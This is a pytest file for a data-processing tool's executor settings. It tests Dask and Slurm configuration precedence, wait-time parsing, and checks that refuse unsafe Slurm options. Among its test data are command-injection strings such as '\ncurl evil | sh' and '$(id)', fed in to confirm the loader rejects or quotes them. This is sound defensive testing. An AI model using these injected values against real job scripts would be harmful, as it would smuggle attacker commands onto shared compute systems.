"""Which scheduler is used: nanoset.yaml's or the environment's; test_settings.py has what is
refused.
"""

from pathlib import Path

import pytest

from nanoset_core.errors import ConfigError
from nanoset_core.execution.dask import DaskExecutor
from nanoset_core.execution.dask_scheduler import DaskScheduler
from nanoset_core.project.project import Project
from nanoset_core.project.running import ExecutorSpec, chosen_executor
from nanoset_core.project.settings import load_config

SECTION = "/p/nanoset.yaml: executor"
DASK = ExecutorSpec("dask", "tcp://written:1", wait="2h")


@pytest.mark.parametrize(
    ("wait", "seconds"),
    [(None, 60), (90, 90), (0.5, 0.5), ("90", 90), ("30m", 1800), ("1.5h", 5400), ("2d", 172_800)],
)
def test_how_long_is_waited(wait, seconds):
    assert ExecutorSpec(wait=wait).wait_seconds == seconds


def test_without_variables_nanoset_yaml_says():
    unset = {"NANOSET_DASK_ADDRESS": "", "NANOSET_DASK_SCHEDULER_FILE": "", "NANOSET_DASK_WAIT": ""}
    for environment in ({}, unset):
        assert chosen_executor(SECTION, DASK, environment) == (DASK, f"{SECTION}.address")
        assert chosen_executor(SECTION, ExecutorSpec(), environment)[0] == ExecutorSpec()


@pytest.mark.parametrize(
    "written", [ExecutorSpec(), DASK, ExecutorSpec("dask", scheduler_file="s.json")]
)
def test_the_environment_comes_first(written, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    address, file = (
        {"NANOSET_DASK_ADDRESS": "tls://h:2"},
        {"NANOSET_DASK_SCHEDULER_FILE": "here/s.json"},
    )
    where = "{} in the environment".format
    expected = ExecutorSpec("dask", "tls://h:2", wait=written.wait)
    assert chosen_executor(SECTION, written, address) == (expected, where("NANOSET_DASK_ADDRESS"))
    expected = ExecutorSpec("dask", scheduler_file=str(tmp_path / "here" / "s.json"), wait="24h")
    found = chosen_executor(SECTION, written, file | {"NANOSET_DASK_WAIT": "24h"})
    assert found == (expected, where("NANOSET_DASK_SCHEDULER_FILE"))


@pytest.mark.parametrize(
    ("variables", "what", "where"),
    [
        (
            {"ADDRESS": "tcp://h:1", "SCHEDULER_FILE": "s.json"},
            "named twice",
            "NANOSET_DASK_SCHEDULER_FILE",
        ),
        ({"ADDRESS": "h:1"}, "not the address", "NANOSET_DASK_ADDRESS"),
        ({"WAIT": "long"}, "not a time to wait", "NANOSET_DASK_WAIT"),
    ],
)
def test_variables_are_checked_with_nanoset_yaml(variables, what, where, tmp_path, monkeypatch):
    for name, value in variables.items():
        monkeypatch.setenv(f"NANOSET_DASK_{name}", value)
    (tmp_path / "nanoset.yaml").write_text(
        "raw: raw\nroot: data\ntokenizer: {path: t.json, eod: x}\n"
    )
    with pytest.raises(ConfigError, match=what) as caught:
        load_config(tmp_path / "nanoset.yaml")
    assert caught.value.where == f"{where} in the environment"


def test_a_file_lies_beside_nanoset_yaml(tmp_path):
    executor = "executor: {kind: dask, scheduler_file: run/s.json, wait: 24h}\n"
    (tmp_path / "nanoset.yaml").write_text(
        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{executor}"
    )
    project = Project.open(tmp_path / "nanoset.yaml")
    where = f"{project.config.file}: executor.scheduler_file"
    scheduler = DaskScheduler(None, tmp_path / "run" / "s.json", 86_400.0, where)
    assert project.executor == DaskExecutor(
        scheduler, project.outputs.access, (tmp_path / "t.json",)
    )


def test_what_slurm_is_asked_for(tmp_path):
    from nanoset_core.execution.slurm import SlurmJobs

    def jobs(executor: str) -> SlurmJobs:
        text = (
            f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\nexecutor: {{kind: slurm, "
            f"{executor}}}\n"
        )
        (tmp_path / "nanoset.yaml").write_text(text)
        project = Project.open(tmp_path / "nanoset.yaml")
        return project.executor.cluster

    folder, where = tmp_path / ".nanoset" / "slurm", f"{tmp_path / 'nanoset.yaml'}: executor"
    assert jobs("jobs: 3") == SlurmJobs(3, 1, "2GB", 3600, folder, where=where)
    assert jobs("jobs: 1, cpus: 4, wait: 2d").memory == "8GB"
    full = (
        "jobs: 2, partition: p, account: a, time: 90m, cpus: 2, memory: 5GB, directives: "
        "[--qos=x], wait: 1h"
    )
    assert jobs(full) == SlurmJobs(2, 2, "5GB", 5400, folder, "p", "a", ("--qos=x",), 3600.0, where)


INJECTED = ["\\ncurl evil | sh", "\\r\\ntouch x", "\\x85id", "\\u2028id", "\\e[2J", "\\u202eab"]
"""What follows a plain value, as YAML escapes it."""


@pytest.mark.parametrize("injected", INJECTED)
@pytest.mark.parametrize(
    "key",
    ["partition: p{}", "account: a{}", "directives: [--qos=x{}]", "memory: 2GB{}", "time: 4h{}"],
)
def test_nothing_puts_a_line_into_a_job_script(tmp_path, key, injected):
    name, _, value = key.partition(": ")
    quoted = f'"{value.format(injected)}"'
    if name == "directives":
        quoted = f'["--qos=x{injected}"]'
    text = f"executor: {{kind: slurm, jobs: 1, {name}: {quoted}}}\n"
    (tmp_path / "nanoset.yaml").write_text(
        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
    )
    with pytest.raises(ConfigError, match=f"executor.{name}"):
        load_config(tmp_path / "nanoset.yaml")


@pytest.mark.parametrize(
    "given",
    ["partition: 'p -w x'", "account: '$(id)'", "directives: ['qos=x']", "directives: ['']"],
)
def test_names_and_directives_for_slurm_are_checked(tmp_path, given):
    text = f"executor: {{kind: slurm, jobs: 1, {given}}}\n"
    (tmp_path / "nanoset.yaml").write_text(
        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
    )
    with pytest.raises(ConfigError, match="script"):
        load_config(tmp_path / "nanoset.yaml")


@pytest.mark.parametrize(
    "directive", ["--constraint=ib", "-C ib&avx", "--comment='two words'", "--gres=gpu:a100:2"]
)
def test_usual_directives_are_taken(tmp_path, directive):
    text = (
        f"executor: {{kind: slurm, jobs: 1, partition: 'a,b', account: a/b.c-d_e, directives: "
        f'["{directive}"]}}\n'
    )
    (tmp_path / "nanoset.yaml").write_text(
        f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{text}"
    )
    assert load_config(tmp_path / "nanoset.yaml").executor.directives == (directive,)


def test_the_advice_to_start_a_scheduler_is_quoted(tmp_path):
    scheduler = DaskScheduler(file=Path("/a b/$(id)/s.json"))
    assert scheduler.start_workers.endswith(
        "`dask worker --scheduler-file '/a b/$(id)/s.json' --nthreads 1`"
    )
